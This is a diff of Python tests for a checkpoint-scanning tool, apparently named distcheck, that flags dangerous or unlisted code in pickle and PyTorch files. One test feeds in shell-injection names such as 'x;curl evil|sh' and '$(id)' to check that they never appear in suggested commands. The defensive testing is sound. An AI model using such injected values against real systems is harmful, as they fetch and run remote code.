@@ -17,9 +17,7 @@ from distcheck.core.checker import Checker
 from distcheck.core.model import Finding, Severity
 
 ACCEPT = WeightsOnly("accept")
-NEVER = WeightsOnly(
-    "never", why="it fills a collections.defaultdict", cure="convert hist to a plain dict before saving"
-)
+NEVER = WeightsOnly("never", why="it fills a collections.defaultdict", fix="convert hist to a plain dict before saving")
 
 
 def trace(**changes: Any) -> Trace:
@@ -28,12 +26,12 @@ def trace(**changes: Any) -> Trace:
         "end": 10,
         "protocol": 2,
         "ended": "stop",
-        "trouble": None,
+        "problem": None,
         "opcodes": {},
         "globals": (),
         "calls": (),
         "writes": (),
-        "doubts": (),
+        "unresolved": (),
         "storages": (),
         "storage_keys": frozenset(),
         "foreign_ids": (),
@@ -91,7 +89,7 @@ def test_a_million_dangers_are_twenty_findings_that_say_how_many_there_are() -> 
     dangers = tuple(Danger(None, number, "os.system('x')", "it runs a command") for number in range(1000))
     findings = found(torch_zip(), verdict("dangerous", NEVER, dangers=dangers))["DC610"]
     assert len(findings) == 20
-    assert any("and 980 more places" in finding.message for finding in findings)
+    assert any("and 980 more calls" in finding.message for finding in findings)
 
 
 def test_a_dangerous_file_gets_no_advice_that_helps_to_load_it() -> None:
@@ -104,7 +102,7 @@ def test_a_dangerous_file_gets_no_advice_that_helps_to_load_it() -> None:
         "dangerous",
         WeightsOnly("allowlist", allowlist=("Evil",), imports=("from evil import Evil",)),
         dangers=(Danger(None, 1, "evil.Evil()", "it is unknown"),),
-        unvouched=(Global("evil", "Evil"),),
+        untrusted=(Global("evil", "Evil"),),
         modules_saved=(StreamCall(Global("evil", "Net"), "NEWOBJ", 3, "evil.Net()"),),
         distributed=(Global("torch._C._distributed_c10d", "ProcessGroup"),),
     )
@@ -118,7 +116,7 @@ def test_bad_dc611_harmless_names_are_a_warning_with_lines_to_paste() -> None:
         imports=("from argparse import Namespace", "import numpy"),
         offset=9,
     )
-    judged = verdict("needs-allow-listing", answer, inert=(Global("argparse", "Namespace"), Global("numpy", "dtype")))
+    judged = verdict("needs-allow-listing", answer, benign=(Global("argparse", "Namespace"), Global("numpy", "dtype")))
     (finding,) = found(torch_zip(), judged)["DC611"]
     assert finding.severity is Severity.WARNING
     assert "argparse.Namespace, numpy.dtype" in finding.message
@@ -131,7 +129,7 @@ def test_bad_dc611_harmless_names_are_a_warning_with_lines_to_paste() -> None:
 
 def test_bad_dc611_code_that_nobody_vouches_for_is_an_error() -> None:
     answer = WeightsOnly("allowlist", allowlist=("Net",), imports=("from their.net import Net",))
-    judged = verdict("needs-allow-listing", answer, unvouched=(Global("their.net", "Net"),))
+    judged = verdict("needs-allow-listing", answer, untrusted=(Global("their.net", "Net"),))
     (finding,) = found(torch_zip(), judged)["DC611"]
     assert finding.severity is Severity.ERROR
     assert "their.net.Net" in finding.message
@@ -142,7 +140,7 @@ def test_bad_dc611_code_that_nobody_vouches_for_is_an_error() -> None:
 def test_dc611_many_names_are_cut_in_the_message_and_not_in_the_evidence() -> None:
     names = tuple(Global("their.net", f"Block{number}") for number in range(30))
     answer = WeightsOnly("allowlist", allowlist=tuple(name.name for name in names))
-    (finding,) = found(torch_zip(), verdict("needs-allow-listing", answer, unvouched=names))["DC611"]
+    (finding,) = found(torch_zip(), verdict("needs-allow-listing", answer, untrusted=names))["DC611"]
     assert "and 25 more" in finding.message
     assert len(finding.evidence["unvouched"]) == 30
 
@@ -155,10 +153,10 @@ def test_bad_dc611_an_import_is_all_that_is_needed() -> None:
 
 
 @pytest.mark.parametrize(
-    ("unvouched", "severity"), [((), Severity.WARNING), ((Global("their", "Net"),), Severity.ERROR)]
+    ("untrusted", "severity"), [((), Severity.WARNING), ((Global("their", "Net"),), Severity.ERROR)]
 )
-def test_bad_dc611_what_no_list_can_fix(unvouched: tuple[Global, ...], severity: Severity) -> None:
-    (finding,) = found(torch_zip(), verdict("needs-allow-listing", NEVER, unvouched=unvouched))["DC611"]
+def test_bad_dc611_what_no_list_can_fix(untrusted: tuple[Global, ...], severity: Severity) -> None:
+    (finding,) = found(torch_zip(), verdict("needs-allow-listing", NEVER, untrusted=untrusted))["DC611"]
     assert finding.severity is severity
     assert "it fills a collections.defaultdict" in finding.message
     assert "convert hist to a plain dict before saving" in finding.fix.text
@@ -171,9 +169,9 @@ def test_good_dc611_what_a_budget_ended_is_not_judged() -> None:
 
 def test_dc611_under_pickle_only_unknown_code_counts() -> None:
     file = PickleFile("data.pkl", "pickle", 10, (Stream(None, "pickle", trace()),))
-    plain = verdict("safe", NEVER, inert=(Global("datetime", "date"),))
+    plain = verdict("safe", NEVER, benign=(Global("datetime", "date"),))
     assert found(file, plain) == {}
-    unknown = verdict("needs-allow-listing", NEVER, unvouched=(Global("their.net", "Net"),))
+    unknown = verdict("needs-allow-listing", NEVER, untrusted=(Global("their.net", "Net"),))
     (finding,) = found(file, unknown)["DC611"]
     assert finding.severity is Severity.ERROR
     assert "their.net.Net" in finding.message
@@ -184,7 +182,7 @@ def test_dc611_under_pickle_only_unknown_code_counts() -> None:
 
 
 def test_bad_dc611_what_torch_does_not_guard_counts_although_torch_takes_the_rest() -> None:
-    judged = verdict("needs-allow-listing", ACCEPT, unvouched=(Global("their.net", "Net"),))
+    judged = verdict("needs-allow-listing", ACCEPT, untrusted=(Global("their.net", "Net"),))
     (finding,) = found(torch_zip(), judged)["DC611"]
     assert finding.severity is Severity.ERROR
     assert "their.net.Net" in finding.message
@@ -193,11 +191,11 @@ def test_bad_dc611_what_torch_does_not_guard_counts_although_torch_takes_the_res
 @pytest.mark.parametrize("name", ["x;curl evil|sh", "$(id)", "a b", "`id`", "-rf"])
 def test_what_a_file_calls_its_names_never_becomes_a_line_for_the_shell(name: str) -> None:
     file = PickleFile("data.pkl", "pickle", 10, (Stream(None, "pickle", trace()),))
-    judged = verdict("needs-allow-listing", NEVER, unvouched=(Global("their", name),))
+    judged = verdict("needs-allow-listing", NEVER, untrusted=(Global("their", name),))
     (finding,) = found(file, judged)["DC611"]
     assert name not in finding.fix.text
     answer = WeightsOnly("allowlist", allowlist=(f"their.{name}",), imports=("import their",))
-    (line,) = found(torch_zip(), verdict("needs-allow-listing", answer, unvouched=judged.unvouched))["DC611"]
+    (line,) = found(torch_zip(), verdict("needs-allow-listing", answer, untrusted=judged.untrusted))["DC611"]
     assert line.fix.command is None or name not in line.fix.command
 
 
@@ -206,23 +204,23 @@ def test_what_a_file_calls_its_names_never_becomes_a_line_for_the_shell(name: st
     [("disagree", Severity.ERROR), ("malformed", Severity.ERROR), ("note", Severity.INFO)],
 )
 def test_bad_dc612_oddities_of_the_container(kind: str, severity: Severity) -> None:
-    oddity = Anomaly("data.pkl is in it twice", kind, 512, "archive/data.pkl")
+    anomaly = Anomaly("data.pkl is in it twice", kind, 512, "archive/data.pkl")
     word = "malformed" if severity is Severity.ERROR else "safe"
-    (finding,) = found(torch_zip(oddities=(oddity,)), verdict(word))["DC612"]
+    (finding,) = found(torch_zip(anomalies=(anomaly,)), verdict(word))["DC612"]
     assert finding.severity is severity
     assert finding.message == "data.pkl is in it twice"
     assert (finding.where.object, finding.where.offset) == ("archive/data.pkl", 512)
 
 
 def test_good_dc612_what_torch_refuses_is_not_malformed() -> None:
-    file = torch_zip(oddities=(Anomaly("it is a TorchScript archive", "refused"),))
-    answer = WeightsOnly("never", why="it is a TorchScript archive", cure="torch.jit.load reads it")
+    file = torch_zip(anomalies=(Anomaly("it is a TorchScript archive", "refused"),))
+    answer = WeightsOnly("never", why="it is a TorchScript archive", fix="torch.jit.load reads it")
     assert set(found(file, verdict("needs-allow-listing", answer))) == {"DC611"}
 
 
 def test_bad_dc612_a_pointer_of_git_lfs_is_pulled() -> None:
-    oddity = Anomaly("it is a pointer of git LFS, and not the file", "malformed", cure="git lfs pull")
-    file = PickleFile("model.pt", "git LFS pointer", 130, oddities=(oddity,))
+    anomaly = Anomaly("it is a pointer of git LFS, and not the file", "malformed", fix="git lfs pull")
+    file = PickleFile("model.pt", "git LFS pointer", 130, anomalies=(anomaly,))
     (finding,) = found(file, verdict("malformed", None))["DC612"]
     assert finding.fix.command == "git lfs pull"
     assert finding.fix.where == "this-shell"
@@ -241,14 +239,14 @@ def test_bad_dc612_a_stream_that_ends_in_the_middle() -> None:
 def test_bad_dc612_tensors_that_are_not_in_the_file() -> None:
     file = torch_zip(storages_absent=tuple(f"data/{number}" for number in range(9)))
     (finding,) = found(file, verdict("malformed"))["DC612"]
-    assert "9 tensor storages that it asks for are not in it: data/0" in finding.message
+    assert "9 tensor storages that it requests are not in it: data/0" in finding.message
     assert "and 4 more" in finding.message
 
 
 def test_dc612_says_the_same_thing_once() -> None:
-    oddity = Anomaly("the bytes end before STOP", "malformed", 77)
+    anomaly = Anomaly("the bytes end before STOP", "malformed", 77)
     judged = verdict("malformed", malformed=(Unresolved(77, "the bytes end before STOP"),))
-    assert len(found(torch_zip(oddities=(oddity,)), judged)["DC612"]) == 1
+    assert len(found(torch_zip(anomalies=(anomaly,)), judged)["DC612"]) == 1
 
 
 def pinned(*tags: tuple[str, int]) -> PickleFile:
